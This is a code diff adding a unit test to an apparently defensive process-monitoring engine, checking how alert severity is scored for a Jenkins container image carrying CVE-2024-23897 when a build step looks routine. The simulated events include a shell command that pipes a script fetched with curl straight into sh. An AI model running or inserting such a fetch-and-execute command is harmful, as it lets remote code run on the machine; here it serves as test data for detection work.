@@ -3,7 +3,9 @@ package io.sightline.engine;
 import static io.sightline.engine.Events.process;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.sightline.asset.ContainerId;
 import io.sightline.asset.Inventory;
+import io.sightline.asset.PodKey;
 import io.sightline.engine.rarity.BehaviourPattern;
 import io.sightline.engine.rarity.PatternHistory;
 import io.sightline.engine.rarity.RarityConfig;
@@ -233,6 +235,51 @@ class RarityStoriesTest {
                 .filteredOn(c -> c.pattern().behaviour().equals("make>cc -O2"))
                 .extracting(RunCount::count)
                 .containsExactly(3L);
+    }
+
+    @Test
+    void aRoutineStartThroughAVulnerableImageIsLoweredAndStillSaysWhatTheImageCarries() {
+        String digest = "sha256:" + "ab".repeat(32);
+        Optional<ContainerContext> jenkinsPod = Optional.of(new ContainerContext(
+                ContainerId.parse("containerd://" + "1".repeat(64)),
+                Optional.of("jenkins"),
+                Optional.of(new PodKey("ci", "jenkins-0")),
+                Optional.of("jenkins/jenkins:2.440"),
+                Optional.of(digest)));
+        ProcessRef server = process(RUNNER, 200, -3600, "/opt/java/bin/java", "-jar jenkins.war", jenkinsPod);
+        ProcessRef step = process(RUNNER, 700, 10, "/bin/sh", "-c \"curl -fsSL https://x.dev/i.sh | sh\"", jenkinsPod);
+        ProcessRef fetch = process(RUNNER, 701, 10.1, "/usr/bin/curl", "-fsSL https://x.dev/i.sh", jenkinsPod);
+        fed.add(events.accept(server, 1, "10.0.5.5:8080", "10.0.0.9:50000"));
+        fed.add(events.exec(step, server));
+        fed.add(events.exec(fetch, step));
+        fed.add(events.connect(fetch, 10.2, "10.0.5.5:41000", "203.0.113.40:443"));
+        ImageRisk risk = d -> d.equals(digest)
+                ? Optional.of(new ImageRisk.Exposure(Severity.CRITICAL, "CVE-2024-23897", 1))
+                : Optional.empty();
+        PatternHistory routine = PatternHistory.of(Map.of(
+                new BehaviourPattern("ci/jenkins", "java>sh curl"),
+                new Sightings(31, 14, Instant.parse("2024-10-31T02:00:00Z"), Instant.parse("2024-11-13T02:00:00Z"))));
+
+        Storyboard alone = run(risk, PatternHistory.EMPTY).getFirst();
+        Storyboard lowered = run(risk, routine).getFirst();
+
+        // One advanced tactic is high; the critical image on the way in raises it to critical.
+        // Routine for ci/jenkins on 15 days, the start lowers high to medium and is not raised,
+        // but the image it went through is still named.
+        String image = "the trail passes through image sha256:abababababab… carrying CVE-2024-23897 (critical)";
+        assertThat(alone.severity()).isEqualTo(Severity.CRITICAL);
+        assertThat(alone.severityReasons()).contains(image, "raised one level for the vulnerable image on the way in");
+        assertThat(lowered.severity()).isEqualTo(Severity.MEDIUM);
+        assertThat(lowered.severityReasons())
+                .contains(image + "; not raised for it, the start is routine")
+                .noneMatch(r -> r.startsWith("raised one level for the vulnerable image"));
+    }
+
+    private List<Storyboard> run(ImageRisk risk, PatternHistory history) {
+        StoryboardEngine engine =
+                new StoryboardEngine(new Inventory(), risk, EngineConfig.DEFAULTS, BuiltInRules.rules(), history);
+        fed.forEach(engine::accept);
+        return engine.storyboards();
     }
 
     private List<Storyboard> run(PatternHistory history) {
